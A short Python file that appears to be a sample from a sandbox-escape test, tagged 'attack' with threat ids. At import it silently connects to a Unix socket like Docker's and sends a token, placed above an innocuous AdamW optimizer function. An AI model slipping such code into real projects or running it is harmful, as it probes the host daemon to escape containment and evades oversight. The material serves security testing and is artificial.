# /// attack
# threats = ["F43", "F44"]
# gains = "named socket"
# ///
"""Speaks to a socket in a folder, as Docker's is."""

import socket

import torch

def dial(family, kind, address):
    try:
        with socket.socket(family, kind) as s:
            s.settimeout(2)
            s.connect(address)
            s.send(TOKEN.encode())
    except OSError:
        pass


dial(socket.AF_UNIX, socket.SOCK_STREAM, NAMED)


def configure(params, horizon):
    return torch.optim.AdamW(params.values(), lr=0.01, betas=(0.9, 0.95), weight_decay=0.0)
